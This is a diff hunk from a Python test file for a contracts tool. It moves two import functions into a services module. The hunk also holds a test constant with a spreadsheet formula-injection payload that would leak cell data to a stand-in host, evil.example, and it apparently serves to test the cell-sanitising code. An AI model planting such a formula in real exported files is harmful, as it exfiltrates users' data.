@@ -23,12 +23,12 @@ from typer.testing import CliRunner
 
 from tongxin.cli.main import app
 from tongxin.core.contracts import CONTRACT_COLUMNS
-from tongxin.fileio.contracts import contract_columns, import_contracts, write_contracts_xlsx
-from tongxin.fileio.importer import import_file
+from tongxin.fileio.contracts import contract_columns, write_contracts_xlsx
 from tongxin.fileio.safe_cells import TRIGGERS, safe_cell, unquote_cell
 from tongxin.services import Exchange, reports
 from tongxin.services import contracts as C
 from tongxin.services import stats as S
+from tongxin.services.importing import import_contracts, import_file
 from tongxin.storage import deals_repo as R
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
